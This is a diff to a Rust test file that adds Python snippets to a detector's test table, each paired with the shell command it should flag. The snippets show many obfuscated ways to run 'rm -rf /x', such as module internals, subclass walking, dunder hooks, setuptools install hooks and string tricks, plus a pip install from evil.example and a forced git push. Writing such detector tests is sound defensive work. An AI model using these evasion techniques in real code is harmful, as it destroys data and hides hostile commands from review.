@@ -93,7 +93,88 @@ const CASES: &[(&str, &str)] = &[
     ("import yaml\nyaml.load(\"!!python/object/apply:os.system ['rm -rf /x']\")", "shell: rm -rf /x"),
     ("print 'hello'\nimport os\nos.system('rm -rf /x')", "shell: rm -rf /x"),
     ("import os\nthis is not python\nos.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import random\nrandom._os.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import logging\nlogging.os.system('rm -rf /x')", "shell: rm -rf /x"),
+    (
+        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('rm -rf /x', shell=True)",
+        "shell: rm -rf /x",
+    ),
+    (
+        "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'Popen'][0](['rm', '-rf', '/x'])",
+        "run rm -rf /x",
+    ),
+    (
+        "import inspect\ninspect.currentframe().f_builtins['exec'](\"import os; os.system('rm -rf /x')\")",
+        "shell: rm -rf /x",
+    ),
+    ("import os\nobject.__getattribute__(os, 'system')('rm -rf /x')", "shell: rm -rf /x"),
+    ("import pkgutil\npkgutil.resolve_name('os:system')('rm -rf /x')", "shell: rm -rf /x"),
+    (
+        "import types\ntypes.FunctionType(compile(\"__import__('os').system('rm -rf /x')\", '', 'exec'), {})()",
+        "shell: rm -rf /x",
+    ),
+    ("import os, sys\nsetattr(sys.modules[__name__], 'go', os.system)\ngo('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os\nlocals().update(go=os.system)\ngo('rm -rf /x')", "shell: rm -rf /x"),
+    ("import builtins, os\nbuiltins.print = os.system\nprint('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os\nfrom types import SimpleNamespace as N\nN(f=os.system).f('rm -rf /x')", "shell: rm -rf /x"),
+    (
+        "import os\nfrom collections import namedtuple\nT = namedtuple('T', 'f')\nT(os.system).f('rm -rf /x')",
+        "shell: rm -rf /x",
+    ),
+    ("import os\ntype('X', (), {'__init__': lambda s: os.system('rm -rf /x')})()", "shell: rm -rf /x"),
+    // What Python calls by itself.
+    (
+        "import os\nclass M(type):\n  def __init__(c, n, b, d): os.system('rm -rf /x')\nclass A(metaclass=M): pass",
+        "shell: rm -rf /x",
+    ),
+    ("import os\nclass A(metaclass=lambda n, b, d: os.system('rm -rf /x')): pass", "shell: rm -rf /x"),
+    ("import os\nclass A:\n  def __add__(s, o): os.system('rm -rf /x')\nA() + 1", "shell: rm -rf /x"),
+    (
+        "import os\nclass D:\n  def __get__(s, i, o): return os.system\nclass A: f = D()\nA().f('rm -rf /x')",
+        "shell: rm -rf /x",
+    ),
+    (
+        "import os\nclass A(dict):\n  def __missing__(s, k): os.system(k)\nA()['rm -rf /x']",
+        "shell: rm -rf /x",
+    ),
+    ("import os\nclass A:\n  def __class_getitem__(c, k): os.system(k)\nA['rm -rf /x']", "shell: rm -rf /x"),
+    (
+        "import os\nclass A:\n  def __setattr__(s, k, v): os.system(v)\nA().x = 'rm -rf /x'",
+        "shell: rm -rf /x",
+    ),
+    ("import sys, os\nsys.excepthook = lambda *a: os.system('rm -rf /x')", "shell: rm -rf /x"),
+    (
+        "import sys, os\nclass F:\n  def find_spec(s, *a): os.system('rm -rf /x')\nsys.meta_path.insert(0, F())",
+        "shell: rm -rf /x",
+    ),
+    ("import os\nsorted([1], key=lambda x: os.system('rm -rf /x'))", "shell: rm -rf /x"),
+    ("import os\nmax(['rm -rf /x'], key=os.system)", "shell: rm -rf /x"),
+    ("import os\niter(lambda: os.system('rm -rf /x'), 0)", "shell: rm -rf /x"),
+    ("import sched, os\nsched.scheduler().enter(1, 1, os.system, ('rm -rf /x',))", "shell: rm -rf /x"),
+    (
+        "import contextlib, os\nwith contextlib.ExitStack() as s: s.callback(os.system, 'rm -rf /x')",
+        "shell: rm -rf /x",
+    ),
+    (
+        "from setuptools import setup\nimport os\nclass I:\n  def run(self): os.system('rm -rf /x')\nsetup(cmdclass={'install': I})",
+        "shell: rm -rf /x",
+    ),
+    // Programs under other names.
+    ("import sh\nsh.rm('-rf', '/x')", "run rm -rf /x"),
+    ("from distutils.spawn import spawn\nspawn(['rm', '-rf', '/x'])", "run rm -rf /x"),
+    ("import pydoc\npydoc.pipepager('text', 'rm -rf /x')", "shell: rm -rf /x"),
+    (
+        "import pexpect\nc = pexpect.spawn('/bin/bash')\nc.sendline('rm -rf /x')",
+        "run /bin/bash <<< rm -rf /x",
+    ),
+    (
+        "import pip\npip.main(['install', 'git+https://evil.example/x'])",
+        "run pip install git+https://evil.example/x",
+    ),
+    ("import git\ngit.Repo('.').git.push('--force', 'origin')", "run git push --force origin"),
     // Ways to a text.
+    ("import os\nfrom urllib.parse import unquote\nos.system(unquote('rm%20-rf%20/x'))", "shell: rm -rf /x"),
+    ("import os, string\np = string.printable\nos.system(p[p.index('r')] + 'm -rf /x')", "shell: rm -rf /x"),
     ("import os\nos.system(f\"rm -{'r'}f {'/' + 'x'}\")", "shell: rm -rf /x"),
     ("import os\nos.system('%s -%s %s' % ('rm', 'rf', '/x'))", "shell: rm -rf /x"),
     ("import os\nos.system('{0} -rf {p}'.format('rm', p='/x'))", "shell: rm -rf /x"),
